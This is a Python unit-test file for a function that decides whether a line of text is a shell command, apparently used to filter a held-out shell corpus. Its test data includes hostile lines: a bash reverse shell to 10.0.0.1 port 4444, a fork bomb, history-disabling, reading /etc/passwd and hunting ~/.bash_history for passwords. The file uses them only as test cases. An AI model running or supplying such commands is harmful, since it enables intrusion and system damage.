"""Shape tests of `_iscmd` (held-out set 11's commands-only filter). Every case is written here for
the shape it stands for, not taken from a corpus row.

    python3 -m unittest scripts/shellcorpus/test_iscmd.py
"""

import os
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from _iscmd import command_text  # noqa: E402

KEPT = [
    "ls -la", "FOO=bar make test", "export PATH=$PATH:/opt/bin", "HISTSIZE=0", "(cd /tmp && make)",
    "{ echo a; echo b; } > out.txt", "f() { ls; }", ":(){ :|:& };:", "! grep -q x file",
    "[ -f x ] && rm x", "[[ -n $X ]] || exit 1", "if true; then echo y; fi", "for i in $(seq 3); do echo $i; done",
    "echo $((1 + 2))", "diff <(sort a) <(sort b)", "find . \\( -name '*.o' -o -name '*.a' \\) -delete",
    "awk -F: '($3 == 0) {print $1}' /etc/passwd", "python3 -c 'import os; print(os.getcwd())'",
    "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196", "cmd >/dev/null 2>&1 &", "ls &>/dev/null",
    "./run.sh --fast", "~/bin/tool", "$EDITOR notes.txt", "\"$HOME/bin/tool\" run", "7z x a.7z", "2to3 -w f.py",
    "/Applications/Some\\ App.app/Contents/MacOS/app --flag", "dotfiles::install::link a b",
    "aws s3api delete-object   --bucket b   --key k", "sudo\trm\t-rf\t/tmp/x", "ls\nrm -rf build",
    "# a comment\numask 022\nmake", "echo Error: not found", "echo \"==> done\"", "time make",
]
KEPT_AS = {
    "user@host:/var/www$ sudo -l": "sudo -l",
    "(remote) user@box:/etc$ id": "id",
    "bash-4.2# id": "id",
    "└─$ cat notes.txt": "cat notes.txt",
    "└──╼ $ls": "ls",
    "os-shell> id": "id",
    "cat ~/.bash_history → look for passwords": "cat ~/.bash_history",
}
DROPPED = {
    "mysql> select 1;": "other-prompt", ">>> import os": "other-prompt", "ftp> get file": "other-prompt",
    "echo 'unterminated": "unbalanced-quotes", "rest of a line\" > out.sh": "unbalanced-quotes",
    'os.system("id")': "bad-paren", "/admin (Status: 301) [Size: 0]": "bad-paren",
    "; id": "leading-operator", "| nc host 1": "leading-operator",
    "Jan 12 10:00:01 host sshd[1]: Accepted": "log-date", "2024-01-01 12:00:00 INFO start": "log-date",
    "*/5 * * * * /usr/local/bin/job": "crontab-entry", "@reboot /usr/local/bin/job": "crontab-entry",
    "root   1  0.0  0.1  1234  567 ?  Ss  10:00  0:01 /sbin/init": "column-output", "total 48": "column-output",
    "new user: name=a, UID=1000, GID=1000, home=/home/a": "record-output",
    "one, two, three": "record-output", "command => \"id\"": "hash-entry", "libc.so.6 => /lib/libc.so.6": "hash-entry",
    "from os import system": "other-language", "x = compute(1)": "bad-paren", "var x = 1": "other-language",
    "a=1&cmd=id": "query-string", "<a href=\"/x\">": "markup",
    "-rw-r--r-- 1 root root 0 Jan 1 f": "option-first", "drwxr-xr-x 2 root root 4096 d": "permission-string",
    "1234 pts/0 00:00:01 bash": "number", "grep: x: No such file or directory": "colon-word",
    "https://example.com/?q=1": "colon-word", "passwd file: /etc/passwd": "colon-word", "DROP TABLE users;": "upper-keyword",
    "GET /index.html HTTP/1.1": "upper-keyword", "This runs the server.": "prose", "the file is here": "prose",
    "while read l; do": "unfinished", "cat file |": "unfinished", "12. cat x → keep": "annotation",
}


class IsCommand(unittest.TestCase):
    def test_kept(self):
        for line in KEPT:
            with self.subTest(line=line):
                self.assertEqual(command_text(line), (line.strip(), None))

    def test_prompt_and_note_removed(self):
        for line, text in KEPT_AS.items():
            with self.subTest(line=line):
                self.assertEqual(command_text(line), (text, None))

    def test_dropped(self):
        for line, why in DROPPED.items():
            with self.subTest(line=line):
                self.assertEqual(command_text(line), (None, why))


if __name__ == "__main__":
    unittest.main()
